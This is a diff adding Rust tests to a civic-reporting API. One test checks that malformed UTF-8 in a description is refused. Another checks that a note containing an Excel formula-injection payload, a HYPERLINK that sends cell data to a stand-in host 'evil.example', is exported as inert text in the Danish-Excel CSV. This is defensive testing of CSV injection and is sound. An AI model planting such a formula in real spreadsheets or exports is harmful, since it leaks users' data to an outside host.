@@ -337,6 +337,10 @@ async fn every_bad_request_is_refused_in_open311_form_naming_the_field() {
             "lat",
         ),
         (
+            format!("service_code=other&{HERE}&description=a%EF%BF%BFb"),
+            "description",
+        ),
+        (
             format!("service_code=other&{HERE}&description=x&email=not-an-address"),
             "email",
         ),
@@ -833,4 +837,29 @@ async fn safety_walk_observations_land_in_the_layer_at_once() {
             .status,
         401
     );
+    // A note that Excel would run as a formula stays text in the Danish-Excel CSV.
+    let formula = r#"=HYPERLINK("http://evil.example/?"&A1;"klik")"#;
+    let o = post_json(
+        &f,
+        &format!("/api/walks/{walk}/observations"),
+        json!({"kind": "lighting", "rating": 2, "note": formula, "lon": 12.5548, "lat": 55.6867}),
+        Some(&f.planner),
+    )
+    .await;
+    assert_eq!(o.status, 201, "{}", o.json);
+    let app = test::init_service(App::new().app_data(f.state.clone()).configure(routes)).await;
+    let res = test::call_service(
+        &app,
+        test::TestRequest::get()
+            .uri("/api/collections/observations/items?f=csv&dialect=excel-da")
+            .to_request(),
+    )
+    .await;
+    assert_eq!(res.status(), 200);
+    let csv = String::from_utf8(test::read_body(res).await.to_vec()).unwrap();
+    let row = csv
+        .lines()
+        .find(|l| l.contains("HYPERLINK"))
+        .expect("the row");
+    assert!(row.contains(";\"'=HYPERLINK("), "{row}");
 }
